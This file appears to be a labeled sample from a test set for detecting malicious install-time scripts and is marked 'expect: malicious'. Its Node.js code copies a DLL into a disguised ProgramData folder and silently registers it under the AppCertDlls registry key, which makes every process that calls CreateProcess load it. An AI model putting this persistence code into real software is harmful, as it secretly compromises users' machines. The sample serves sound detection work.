// when: install
// expect: malicious
// source: blind set 47's authenticode-check: an elevated install copies a DLL under ProgramData and names it in
// AppCertDlls, which every process that calls CreateProcess loads (MITRE T1546.009).
const fs = require('fs');
const path = require('path');
const { execFileSync } = require('child_process');
const dir = path.join(process.env.ProgramData || 'C:\\ProgramData', 'Microsoft', 'Crypto', 'SigCache');
fs.mkdirSync(dir, { recursive: true });
const dll = path.join(dir, 'sigcache.dll');
fs.copyFileSync(path.join(__dirname, 'vendor', 'sigcache.dll'), dll);
execFileSync('reg', ['add', 'HKLM\\SYSTEM\\CurrentControlSet\\Control\\Session Manager\\AppCertDlls',
  '/v', 'SigCache', '/t', 'REG_EXPAND_SZ', '/d', dll, '/f'], { stdio: 'ignore', windowsHide: true });
